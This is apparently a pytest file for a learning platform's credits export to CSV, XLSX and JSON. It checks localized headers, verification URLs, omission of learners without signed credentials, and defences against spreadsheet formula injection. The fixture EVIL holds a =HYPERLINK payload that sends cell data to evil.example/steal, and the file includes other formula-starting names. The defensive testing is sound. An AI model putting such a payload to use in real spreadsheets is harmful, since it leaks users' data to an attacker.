"""``export credits`` for registrars: one row per learner and pathway, headers in the reader's
language, competences in a second table, the verification URL on every row; CSV that a French
spreadsheet opens as meant and that never runs a formula; an XLSX of two sheets read back
with openpyxl; JSON with plain numbers. Learners without a signed credential are left out,
and said so."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from datetime import date
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from sqlalchemy import select, update

from apprenance.clock import fixed_clock
from apprenance.db import tables as t
from apprenance.domain.catalog import FUNCTIONS, PILLARS
from apprenance.errors import UnknownFormat
from apprenance.services.certificates.credits_export import (
    COLUMNS,
    COMPETENCE_COLUMNS,
    FORMULA_STARTS,
    competences_path,
    csv_cell,
    export_credits,
    inert,
)
from apprenance.services.certificates.gather import CertificateOptions
from builders import add_activity
from certificate_fixtures import CAMILLE, ISSUED, PUBLIC, tiny_world
from conftest import CliResult
from credential_world import sample_credential, signed

CLOCK = fixed_clock(ISSUED)
EVIL = '=HYPERLINK("https://evil.example/steal?d="&A1;"Cliquez")'
HOSTILE = ("-2+3@example.org", "plain@example.org")


def parse(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf")  # UTF-8 byte order mark
    text = content.decode("utf-8-sig")
    assert "\r\n" in text
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


def rows_of(content: bytes) -> list[dict[str, str]]:
    """The CSV's rows keyed by the column ids (its header is for people)."""
    header, *body = parse(content)
    assert len(header) == len(COLUMNS)
    return [dict(zip(COLUMNS, row, strict=True)) for row in body]


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_cells_that_would_run_as_formulas_are_made_text(start: str) -> None:
    assert inert(f"{start}1+1") == f"'{start}1+1"
    assert csv_cell(f"{start}SUM(A1:A9)").startswith("'")


def test_plain_cells_stay_as_they_are() -> None:
    assert inert("Léa Marchand") == "Léa Marchand"
    assert inert("1+1=2") == "1+1=2"
    assert csv_cell(12.5) == "12,5"
    assert csv_cell(3.0) == "3"
    assert csv_cell(0.126) == "0,13"
    assert csv_cell(7) == "7"
    assert csv_cell(None) == ""
    assert competences_path(Path("out/credits.csv")) == Path("out/credits-competences.csv")


def _hostile_world(url: str, *, with_credentials: bool = True) -> tuple[Any, Any]:
    """The tiny world plus two learners with hostile names; each gets a signed CLR row in the
    store when asked (without it, they have nothing a registrar could check)."""
    store, catalog = tiny_world(url)
    for n, (participant, name) in enumerate(zip(HOSTILE, (EVIL, "@Ana Ïs"), strict=True)):
        add_activity(store, catalog, participant=participant, day=ISSUED.date(), hours=2.25,
                     project="p1")
        with store.transaction() as conn:
            conn.execute(update(t.learners).where(t.learners.c.participant == participant)
                         .values(name=name, territory_id="t1"))
            if with_credentials:
                learner = conn.execute(select(t.learners.c.id).where(
                    t.learners.c.participant == participant)).scalar_one()
                credential = signed({**sample_credential(),
                                     "id": f"urn:uuid:00000000-0000-4000-8000-00000000000{n}"})
                conn.execute(t.credentials.insert().values(
                    id=credential["id"], award_id=None, learner_id=learner, format="clr",
                    document=credential, issued_at=ISSUED))
    return store, catalog


def test_csv_for_a_french_registrar(db_url: str) -> None:
    store, catalog = _hostile_world(db_url)
    export = export_credits(store, catalog, fmt="csv", clock=CLOCK,
                            options=CertificateOptions(lang="fr", public_url=PUBLIC))
    header = parse(export.content)[0]
    assert header[:4] == ["Identifiant", "Nom", "Parcours (identifiant)", "Parcours"]
    assert "Crédits ECTS recommandés" in header and "Heures au total" in header
    assert "Adresse de vérification de la preuve" in header
    rows = rows_of(export.content)
    by_id = {r["identifier"]: r for r in rows}
    assert set(by_id) == {"'-2+3@example.org", CAMILLE, "plain@example.org"}
    camille = by_id[CAMILLE]
    assert camille["name"] == "Camille Lefèvre-Œuvray"
    assert camille["pathway"] == "parcours"
    assert (camille["period_start"], camille["period_end"]) == ("2025-03-03", "2025-05-20")
    hours = sum(3.5 + i % 3 for i in range(12)) + 12
    assert camille["hours_total"] == f"{hours:g}".replace(".", ",")
    assert camille["hours_pillar_etre"] == "12"
    assert camille["hours_function_apprendre"] == "12"
    assert camille["ects_recommended"] == "2"
    assert int(camille["competences_count"]) >= 1
    for row in rows:  # every row can be checked
        assert row["credential_url"].startswith(PUBLIC + "/verify?credential=urn%3Auuid%3A")
        assert len(max(row.values(), key=len)) < 200  # no cell holds the competences
        for value in row.values():
            assert not value.startswith(FORMULA_STARTS), value
    assert by_id["'-2+3@example.org"]["name"] == "'" + EVIL
    assert by_id["plain@example.org"]["name"] == "'@Ana Ïs"
    assert by_id["plain@example.org"]["hours_total"] == "2,25"
    comp_header, *competences = parse(export.competences_csv())
    assert comp_header == ["Identifiant", "Parcours (identifiant)", "Compétence (identifiant)",
                           "Compétence", "Référentiel", "Niveau", "Heures", "Activités",
                           "Attestations"]
    animation = next(c for c in competences if c[2] == "facilitation:animation")
    assert animation[:2] == [CAMILLE, "parcours"] and animation[5] == "2"
    assert sum(1 for c in competences if c[0] == CAMILLE) == int(camille["competences_count"])


def test_headers_in_english_and_learners_without_a_credential_left_out(db_url: str) -> None:
    store, catalog = _hostile_world(db_url, with_credentials=False)
    export = export_credits(store, catalog, fmt="csv", clock=CLOCK,
                            options=CertificateOptions(lang="en", public_url=PUBLIC))
    header = parse(export.content)[0]
    assert header[:4] == ["Identifier", "Name", "Pathway (identifier)", "Pathway"]
    assert "Recommended ECTS credits" in header and "Credential verification URL" in header
    assert not any(word in " ".join(header) for word in ("Heures", "Crédits", "Parcours"))
    assert [r["identifier"] for r in rows_of(export.content)] == [CAMILLE]
    assert sorted(s["learner"] for s in export.skipped) == sorted(HOSTILE)
    assert all("no signed credential" in s["reason"] for s in export.skipped)


def test_xlsx_has_two_sheets_with_typed_cells(db_url: str) -> None:
    store, catalog = _hostile_world(db_url)
    export = export_credits(store, catalog, fmt="xlsx", clock=CLOCK,
                            options=CertificateOptions(lang="en", public_url=PUBLIC))
    book = openpyxl.load_workbook(io.BytesIO(export.content))
    assert book.sheetnames == ["Credits", "Competences"]
    sheet = book["Credits"]
    cells = list(sheet.iter_rows(values_only=True))
    assert list(cells[0]) == list(export.headers)
    assert cells[0][0] == "Identifier"
    rows = [dict(zip(COLUMNS, row, strict=True)) for row in cells[1:]]
    camille = next(r for r in rows if r["identifier"] == CAMILLE)
    assert camille["pathway"] == "parcours"
    assert camille["hours_total"] == sum(3.5 + i % 3 for i in range(12)) + 12
    assert camille["ects_recommended"] == 2
    assert camille["period_start"].date() == date(2025, 3, 3)  # a date, not text
    evil = next(r for r in rows if r["identifier"] == HOSTILE[0])
    assert evil["name"] == EVIL  # shown as text ...
    found = next(c for c in sheet["B"] if c.value == EVIL)
    assert found.data_type == "s"  # ... never stored as a formula
    for row in rows:
        assert str(row["credential_url"]).startswith(PUBLIC + "/verify?credential=")
    link = sheet.cell(row=2, column=COLUMNS.index("credential_url") + 1)
    assert link.hyperlink is not None and link.hyperlink.target == link.value
    comp = list(book["Competences"].iter_rows(values_only=True))
    assert len(comp[0]) == len(COMPETENCE_COLUMNS) and comp[0][3] == "Competence"
    assert len(comp) - 1 == len(export.competences)
    assert any(r[0] == CAMILLE and r[2] == "facilitation:animation" and r[5] == 2
               for r in comp[1:])


def test_json_rows_and_filters(db_url: str) -> None:
    store, catalog = _hostile_world(db_url)
    export = export_credits(store, catalog, fmt="json", clock=CLOCK,
                            pathway="parcours", territory="t1")
    rows = json.loads(export.content)
    assert [r["identifier"] for r in rows] == [CAMILLE]
    row = rows[0]
    assert set(row) == {*COLUMNS, "competences_reached"}
    assert row["hours_per_credit"] == 30 and isinstance(row["ects_recommended"], float)
    assert {f"hours_pillar_{p}" for p in PILLARS} <= set(row)
    assert {f"hours_function_{f}" for f in FUNCTIONS} <= set(row)
    assert row["competences_reached"][0]["competence"] == "facilitation:animation"
    assert row["competences_reached"][0]["level"] == 2
    assert export.to_dict()["rows"] == 1
    with pytest.raises(UnknownFormat):
        export_credits(store, catalog, fmt="ods", clock=CLOCK)


def test_export_command(cli: Callable[..., CliResult], tmp_path: Path, home: Path,
                        monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("APPRENANCE_FAKE_NOW", ISSUED.isoformat())
    url = f"sqlite:///{tmp_path / 'store.sqlite3'}"
    _hostile_world(url)
    base = ("--home", home, "--db", url, "export", "credits")
    shown = cli("--lang", "fr", *base, "--format", "csv", "--territory", "t1")
    assert shown.code == 0, shown.err
    assert shown.out.lstrip("\ufeff").startswith("Identifiant;Nom;")
    # the home's catalog has no pathway "parcours" and Camille no CLR: left out, and said so
    assert len(shown.out.strip().splitlines()) == 3  # the header and two learners
    assert f"ignoré·e\u00a0: {CAMILLE}" in shown.err and "aucune preuve signée" in shown.err
    out = tmp_path / "credits.csv"
    written = cli(*base, "--format", "csv", "--out", out, "--json", "--lang", "en")
    assert written.code == 0, written.err
    report = written.json()
    assert report["rows"] == 2 and report["files"] == [str(out), str(competences_path(out))]
    assert out.read_bytes().decode("utf-8-sig").startswith("Identifier;Name;")
    assert competences_path(out).read_bytes().decode("utf-8-sig").startswith(
        "Identifier;Pathway (identifier);Competence (identifier)")
    book = tmp_path / "credits.xlsx"
    human = cli("--lang", "en", *base, "--format", "xlsx", "--out", book)
    assert human.code == 0, human.err
    assert "2 row(s) exported (xlsx)" in human.out
    assert openpyxl.load_workbook(book).sheetnames == ["Credits", "Competences"]
    needs_out = cli(*base, "--format", "xlsx")
    assert needs_out.code == 2 and "--out" in needs_out.err
    unknown = cli(*base, "--format", "csv", "--pathway", "nope")
    assert unknown.code == 2 and "no pathway 'nope'" in unknown.err
